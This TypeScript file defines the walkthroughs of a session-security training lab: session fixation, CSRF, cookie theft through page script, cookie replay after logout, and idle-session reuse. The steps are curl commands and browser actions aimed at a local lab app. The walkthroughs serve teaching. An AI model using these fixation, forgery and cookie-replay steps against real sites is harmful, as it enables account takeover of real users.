import type { WalkthroughDeclaration, WalkthroughStepDeclaration } from '../lab-registry';

/**
 * The session lab's hands-on walkthroughs (the attack catalogue): what the
 * learner does by hand. The server checks each step from the recorded
 * traffic (server/labs/session/walkthroughs.ts, keyed by these step ids).
 * The curl answers use the default app origin, http://127.0.0.1:4010.
 */

const APP = 'http://127.0.0.1:4010';

/** Logs in with curl and keeps the session cookie and CSRF token in shell variables. */
const CURL_LOGIN = `curl -si -H 'content-type: application/json' -d '{"email":"user@authlab.test","password":"<the demo password from Accounts>"}' ${APP}/api/session/login | tee login.txt
SID=$(grep -io 'authlab_sid=[^;]*' login.txt | head -1)
CSRF=$(grep -o '"csrfToken":"[^"]*"' login.txt | cut -d'"' -f4)`;

const loginStep = (task: string): WalkthroughStepDeclaration => ({
  id: 'login',
  task,
  hint: 'POST /api/session/login with the email and password as JSON. The answer sets the authlab_sid cookie and returns a csrfToken.',
  answer: `On the Session lab page, pick user@authlab.test and log in. Or with curl (keep the cookie for later):\n${CURL_LOGIN}`,
});

const pageLoginStep = (toggle: string): WalkthroughStepDeclaration => ({
  id: 'login',
  task: `Log in on the Session lab page in this browser (the victim). To see the attack work, switch ${toggle} off on the Defences page first: cookie flags are fixed when the cookie is issued.`,
  hint: 'The cookie gets its flags (HttpOnly, SameSite) at login, from the switches as they are then. Flip the switch, then log in again.',
  answer:
    'Open #/session-lab, choose user@authlab.test and press Log in. The traffic drawer shows the Set-Cookie line and its flags.',
});

export const SESSION_WALKTHROUGHS = {
  fixation: {
    goal: 'Make a login happen on a session id you chose, then read GET /api/session/me with that same id as the attacker.',
    steps: [
      {
        id: 'plant',
        task: 'As the attacker, get the app to hand out a cookie for an id you picked: call the legacy link /api/session/legacy/enter?sid=<43 characters> and keep the cookie.',
        hint: 'The sid must be 43 base64url characters (32 random bytes). The answer is a page, and its Set-Cookie carries the id you chose. The attacker\u2019s page http://localhost:4013/session/fixation does the same for a browser.',
        answer: `SID_PICKED=$(head -c 32 /dev/urandom | base64 | tr '+/' '-_' | tr -d '=\\n')\ncurl -si "${APP}/api/session/legacy/enter?sid=$SID_PICKED" | tee plant.txt\nPLANTED=$(grep -io 'authlab_sid=[^;]*' plant.txt | head -1)`,
      },
      {
        id: 'login',
        task: 'Now be the victim: log in while carrying the planted cookie.',
        hint: 'Send the planted cookie with POST /api/session/login. Watch whether the answer sets a new authlab_sid.',
        answer: `curl -si -H "cookie: $PLANTED" -H 'content-type: application/json' -d '{"email":"user@authlab.test","password":"<the demo password from Accounts>"}' ${APP}/api/session/login`,
      },
      {
        id: 'replay',
        task: 'As the attacker, call GET /api/session/me with the cookie you planted.',
        hint: 'You never saw the victim\u2019s password or their answer: only the id you chose.',
        answer: `curl -i -H "cookie: $PLANTED" ${APP}/api/session/me\nIf the attacker\u2019s page planted the id in your browser, the lab\u2019s attacker holds its cookie: curl -i -H 'content-type: application/json' -d '{"source":"planted"}' ${APP}/api/lab/session/attacker/replay`,
      },
    ],
  },
  csrf: {
    goal: 'Change the victim\u2019s display name with a form that another site submits in the victim\u2019s browser.',
    steps: [
      pageLoginStep('session.sameSite and session.csrfToken'),
      {
        id: 'forge',
        task: 'In the same browser, open the attacker\u2019s page http://localhost:4013/session/csrf. It posts a hidden form to POST /api/session/profile as soon as it loads.',
        hint: 'localhost and 127.0.0.1 are different sites. The browser decides whether the session cookie goes along; the server decides whether a request without x-csrf-token counts.',
        answer:
          'Open http://localhost:4013/session/csrf?displayName=Pwned in a new tab, then look for POST /api/session/profile in the traffic drawer: its status, and whether a cookie went with it.',
      },
    ],
  },
  theft: {
    goal: 'Read the session cookie with page script, as an XSS payload would, and use it from another machine.',
    steps: [
      pageLoginStep('session.httpOnly'),
      {
        id: 'read',
        task: 'Open the browser\u2019s developer console on the lab page, run document.cookie, and paste what it printed (even if it is empty of a session).',
        hint: 'Page script sees every cookie of the page that is not HttpOnly. The app\u2019s CSP blocks injected script, so the console stands in for the payload.',
        answer:
          'In the console: document.cookie. Paste the whole string, e.g. authlab_sid=<id>.<signature> (or "" when the cookie is HttpOnly).',
        paste: { label: 'What document.cookie printed' },
      },
      {
        id: 'use',
        task: 'As the attacker, send the stolen cookie with GET /api/session/me from curl.',
        hint: 'Send exactly the authlab_sid=… pair you pasted, in a Cookie header.',
        answer: `curl -i -H 'cookie: authlab_sid=<the value you pasted>' ${APP}/api/session/me\nOr let the lab's attacker send it: curl -i -H 'content-type: application/json' -d '{"source":"stolen","cookie":"<the value you pasted>"}' ${APP}/api/lab/session/attacker/replay`,
      },
    ],
  },
  logout: {
    goal: 'Keep a copy of a session cookie, log out, and see whether the copy still opens the session.',
    steps: [
      loginStep('Log in and keep a copy of the session cookie and the CSRF token.'),
      {
        id: 'logout',
        task: 'Log out with that session: POST /api/session/logout with the cookie and its x-csrf-token.',
        hint: 'Logout is a state-changing request, so it needs the token from the login answer.',
        answer: `curl -i -X POST -H "cookie: $SID" -H "x-csrf-token: $CSRF" ${APP}/api/session/logout`,
      },
      {
        id: 'replay',
        task: 'Replay the copy you kept: GET /api/session/me with the same cookie.',
        hint: 'The browser forgot the cookie; the question is whether the server forgot the session.',
        answer: `curl -i -H "cookie: $SID" ${APP}/api/session/me\nFrom the lab page: before logging out, give the lab's attacker a copy (POST /api/lab/session/attacker/copy-cookie), then curl -i -H 'content-type: application/json' -d '{"source":"copied"}' ${APP}/api/lab/session/attacker/replay`,
      },
    ],
  },
  idleSession: {
    goal: 'Use a session after it has sat unused for longer than the 15-minute idle timeout.',
    steps: [
      loginStep('Log in and keep the session cookie: this is the session someone left open on a shared computer.'),
      {
        id: 'idle',
        task: 'Leave the session alone for more than 15 minutes on the lab clock: move the clock forward 20 minutes, without using the session meanwhile.',
        hint: 'The lab clock control is in the header (or POST /api/lab/clock). Any request with the cookie counts as activity and restarts the idle period.',
        answer: `curl -i -H 'content-type: application/json' -d '{"advanceMs":1200000}' ${APP}/api/lab/clock`,
      },
      {
        id: 'reuse',
        task: 'Now use the idle session: GET /api/session/me with the cookie you kept.',
        hint: 'The session\u2019s absolute lifetime is 8 hours; only the idle timeout can have ended it.',
        answer: `curl -i -H "cookie: $SID" ${APP}/api/session/me`,
      },
    ],
  },
} as const satisfies Record<string, WalkthroughDeclaration>;
